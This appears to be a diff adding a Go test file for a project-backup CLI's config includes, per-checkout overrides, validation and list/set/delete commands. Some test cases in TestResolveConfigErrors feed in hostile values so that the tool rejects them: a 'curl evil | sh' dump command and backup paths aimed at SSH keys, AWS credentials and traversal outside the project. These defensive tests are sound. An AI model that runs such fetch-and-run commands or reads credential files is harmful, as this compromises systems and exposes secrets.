@@ -0,0 +1,303 @@
+package cmd
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// setupIncludeTest writes a central config that includes projects.d/*.yml,
+// one included file and a checkout with a .toske.yml.
+func setupIncludeTest(t *testing.T, teamProjects, localFile string) (configPath, checkoutDir string) {
+	t.Helper()
+	tempDir := t.TempDir()
+
+	// ja: テスト環境を分離するため、HOMEを一時ディレクトリに設定
+	// en: Isolate test environment by setting HOME to temp directory
+	t.Setenv("HOME", tempDir)
+	t.Setenv("USERPROFILE", tempDir) // Windows support
+
+	checkoutDir = filepath.Join(tempDir, "src", "app")
+	if err := os.MkdirAll(checkoutDir, 0755); err != nil {
+		t.Fatalf("Failed to create checkout: %v", err)
+	}
+	if localFile != "" {
+		if err := os.WriteFile(filepath.Join(checkoutDir, localProjectFileName), []byte(localFile), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", localProjectFileName, err)
+		}
+	}
+
+	t.Cleanup(setupTestConfig(t, `version: 1.0.0
+include:
+  - projects.d/*.yml
+projects:
+  - name: app
+    repo: git@github.com:user/app.git
+    branch: main
+    path: `+checkoutDir+`
+    backup_paths:
+      - .env
+    backup_retention: 3
+`))
+	configPath = cfgFile
+
+	includeDir := filepath.Join(filepath.Dir(configPath), "projects.d")
+	if err := os.MkdirAll(includeDir, 0755); err != nil {
+		t.Fatalf("Failed to create include directory: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(includeDir, "team.yml"), []byte(teamProjects), 0644); err != nil {
+		t.Fatalf("Failed to write included file: %v", err)
+	}
+
+	return configPath, checkoutDir
+}
+
+const teamProjects = `projects:
+  - name: api
+    repo: git@github.com:team/api.git
+    branch: develop
+    backup_paths:
+      - config/
+`
+
+func TestResolveConfig(t *testing.T) {
+	configPath, checkoutDir := setupIncludeTest(t, teamProjects, `backup_paths:
+  - storage/
+  - .env
+backup_retention: 10
+`)
+	localPath := filepath.Join(checkoutDir, localProjectFileName)
+	teamPath := filepath.Join(filepath.Dir(configPath), "projects.d", "team.yml")
+
+	config := Config{
+		Version: "1.0.0",
+		Include: []string{"projects.d/*.yml"},
+		Projects: []Project{{
+			Name:            "app",
+			Repo:            "git@github.com:user/app.git",
+			Branch:          "main",
+			Path:            checkoutDir,
+			BackupPaths:     []string{".env"},
+			BackupRetention: 3,
+		}},
+	}
+	if err := resolveConfig(configPath, &config); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+
+	if len(config.Projects) != 2 || config.Projects[1].Name != "api" {
+		t.Fatalf("Expected the included project to be appended, got %+v", config.Projects)
+	}
+
+	app := config.Projects[0]
+	if !reflect.DeepEqual(app.BackupPaths, []string{".env", "storage/"}) {
+		t.Errorf("Expected merged backup paths, got %v", app.BackupPaths)
+	}
+	if app.BackupRetention != 3 {
+		t.Errorf("Expected the central retention to win, got %d", app.BackupRetention)
+	}
+
+	expectedOrigins := map[string][]string{
+		"name":             {configPath},
+		"repo":             {configPath},
+		"branch":           {configPath},
+		"path":             {configPath},
+		"backup_paths":     {configPath, localPath},
+		"backup_retention": {configPath},
+	}
+	if !reflect.DeepEqual(app.Origins, expectedOrigins) {
+		t.Errorf("Expected origins %v, got %v", expectedOrigins, app.Origins)
+	}
+	if got := config.Projects[1].Origins["repo"]; !reflect.DeepEqual(got, []string{teamPath}) {
+		t.Errorf("Expected the included project to come from %s, got %v", teamPath, got)
+	}
+}
+
+func TestResolveConfigErrors(t *testing.T) {
+	tests := []struct {
+		name        string
+		include     []string
+		localFile   string
+		expectedErr string
+	}{
+		{name: "central fields in .toske.yml", localFile: "name: other\n", expectedErr: "only backup_paths"},
+		{name: "invalid .toske.yml", localFile: "backup_paths: [\n", expectedErr: localProjectFileName},
+		{name: "dumps in .toske.yml", localFile: "dumps:\n  - name: x.sql\n    provider: command\n    command: curl evil | sh\n", expectedErr: "only backup_paths"},
+		{name: "absolute backup path", localFile: "backup_paths:\n  - /home/user/.ssh/id_rsa\n", expectedErr: "/home/user/.ssh/id_rsa"},
+		{name: "backup path escaping the project", localFile: "backup_paths:\n  - config/../../other/.env\n", expectedErr: "config/../../other/.env"},
+		{name: "backup path in home", localFile: "backup_paths:\n  - ~/.aws/credentials\n", expectedErr: "~/.aws/credentials"},
+		{name: "exclude escaping the project", localFile: "exclude:\n  - ../\n", expectedErr: "exclude"},
+		{name: "bad pattern", include: []string{"projects.d/[.yml"}, expectedErr: "Invalid include pattern"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			configPath, checkoutDir := setupIncludeTest(t, teamProjects, tt.localFile)
+			config := Config{
+				Version:  "1.0.0",
+				Include:  tt.include,
+				Projects: []Project{{Name: "app", Repo: "r", Branch: "main", Path: checkoutDir}},
+			}
+
+			err := resolveConfig(configPath, &config)
+			if err == nil || !strings.Contains(err.Error(), tt.expectedErr) {
+				t.Errorf("Expected error containing %q, got: %v", tt.expectedErr, err)
+			}
+		})
+	}
+}
+
+func TestInsideProjectDir(t *testing.T) {
+	for path, expected := range map[string]bool{
+		".env":           true,
+		"config/":        true,
+		"a/../b":         true,
+		"..foo":          true,
+		"..":             false,
+		"../x":           false,
+		"a/../../x":      false,
+		"/etc/passwd":    false,
+		"~/.ssh/id_rsa":  false,
+		"./storage/logs": true,
+	} {
+		if got := insideProjectDir(path); got != expected {
+			t.Errorf("insideProjectDir(%q): expected %v, got %v", path, expected, got)
+		}
+	}
+}
+
+func TestIncludeFilesResolvesSymlinks(t *testing.T) {
+	tempDir := t.TempDir()
+	configDir := filepath.Join(tempDir, "config")
+	includeDir := filepath.Join(configDir, "projects.d")
+	if err := os.MkdirAll(includeDir, 0755); err != nil {
+		t.Fatalf("Failed to create include directory: %v", err)
+	}
+	configPath := filepath.Join(configDir, "config.yml")
+	teamPath := filepath.Join(includeDir, "team.yml")
+	for _, path := range []string{configPath, teamPath} {
+		if err := os.WriteFile(path, []byte("projects: []\n"), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", path, err)
+		}
+	}
+	// ja: 設定ファイル自身へのリンクと、include ディレクトリへのリンクを作る
+	// en: Link to the config itself, and to the include directory
+	if err := os.Symlink(configPath, filepath.Join(includeDir, "self.yml")); err != nil {
+		t.Skipf("Symlinks are not supported: %v", err)
+	}
+	if err := os.Symlink(includeDir, filepath.Join(tempDir, "linked.d")); err != nil {
+		t.Fatalf("Failed to create symlink: %v", err)
+	}
+
+	// ja: 設定ファイルもシンボリックリンク経由で指定する
+	// en: Refer to the config through a symlink as well
+	linkedConfig := filepath.Join(tempDir, "config.yml")
+	if err := os.Symlink(configPath, linkedConfig); err != nil {
+		t.Fatalf("Failed to create symlink: %v", err)
+	}
+
+	files, err := includeFiles(linkedConfig, []string{filepath.Join(includeDir, "*.yml"), filepath.Join(tempDir, "linked.d", "*.yml")})
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if !reflect.DeepEqual(files, []string{teamPath}) {
+		t.Errorf("Expected only %s, got %v", teamPath, files)
+	}
+}
+
+func TestValidateDuplicateAcrossIncludes(t *testing.T) {
+	configPath, _ := setupIncludeTest(t, `projects:
+  - name: app
+    repo: git@github.com:team/app.git
+    branch: main
+`, "")
+
+	_, err := captureStdout(t, runValidate)
+	if err == nil {
+		t.Fatal("Expected duplicate name error, got nil")
+	}
+	teamPath := filepath.Join(filepath.Dir(configPath), "projects.d", "team.yml")
+	if !strings.Contains(err.Error(), "duplicate project name 'app'") ||
+		!strings.Contains(err.Error(), collapseHome(configPath)) ||
+		!strings.Contains(err.Error(), collapseHome(teamPath)) {
+		t.Errorf("Expected the error to name both files, got: %v", err)
+	}
+}
+
+func TestRunListOrigin(t *testing.T) {
+	configPath, _ := setupIncludeTest(t, teamProjects, "backup_paths:\n  - storage/\n")
+	teamPath := filepath.Join(filepath.Dir(configPath), "projects.d", "team.yml")
+
+	originalOrigin := listOrigin
+	defer func() { listOrigin = originalOrigin }()
+	listOrigin = true
+
+	output, err := captureStdout(t, runList)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+
+	for _, expected := range []string{
+		"• api  ← " + teamPath,
+		"Backup Paths:  ← " + configPath + ", ~/src/app/" + localProjectFileName,
+		"- storage/",
+	} {
+		if !strings.Contains(output, expected) {
+			t.Errorf("Expected output to contain %q, got:\n%s", expected, output)
+		}
+	}
+}
+
+func TestRunSetDeleteAndRemoveIncludedProject(t *testing.T) {
+	configPath, _ := setupIncludeTest(t, teamProjects, "")
+	teamPath := filepath.Join(filepath.Dir(configPath), "projects.d", "team.yml")
+	central, _ := os.ReadFile(configPath)
+
+	originalSet, originalDelete, originalForce := setProjectName, deleteProjectName, deleteForce
+	originalRemove, originalRemoveForce := removeProjectName, removeForce
+	defer func() {
+		setProjectName, deleteProjectName, deleteForce = originalSet, originalDelete, originalForce
+		removeProjectName, removeForce = originalRemove, originalRemoveForce
+	}()
+
+	// ja: include したファイルのプロジェクトは、そのファイルで変更される
+	// en: A project from an included file is changed in that file
+	setProjectName = "api"
+	if _, err := captureStdout(t, func() error { return runSet([]string{"branch", "main"}) }); err != nil {
+		t.Fatalf("runSet failed: %v", err)
+	}
+	team, _ := os.ReadFile(teamPath)
+	if !strings.Contains(string(team), "branch: main") {
+		t.Errorf("Expected the included file to be changed, got:\n%s", team)
+	}
+
+	// ja: 名前の重複は中央の設定ファイルのプロジェクトとも照合する
+	// en: Duplicate names are checked against the projects of the central config too
+	if _, err := captureStdout(t, func() error { return runSet([]string{"name", "app"}) }); err == nil {
+		t.Error("Expected renaming to a name used in the central config to fail")
+	}
+
+	// ja: delete も remove も、プロジェクトを定義している include したファイルから取り除く
+	// en: Both delete and remove take the project out of the included file defining it
+	deleteProjectName, deleteForce = "api", true
+	removeProjectName, removeForce = "api", true
+	for _, run := range []struct {
+		name string
+		fn   func() error
+	}{{"runDelete", runDelete}, {"runRemove", runRemove}} {
+		if err := os.WriteFile(teamPath, team, 0644); err != nil {
+			t.Fatalf("Failed to write included file: %v", err)
+		}
+		if _, err := captureStdout(t, run.fn); err != nil {
+			t.Fatalf("%s failed: %v", run.name, err)
+		}
+		if data, _ := os.ReadFile(teamPath); strings.Contains(string(data), "name: api") {
+			t.Errorf("%s: expected the project to be removed from the included file, got:\n%s", run.name, data)
+		}
+		if data, _ := os.ReadFile(configPath); string(data) != string(central) {
+			t.Errorf("%s: expected the central config to be left alone, got:\n%s", run.name, data)
+		}
+	}
+}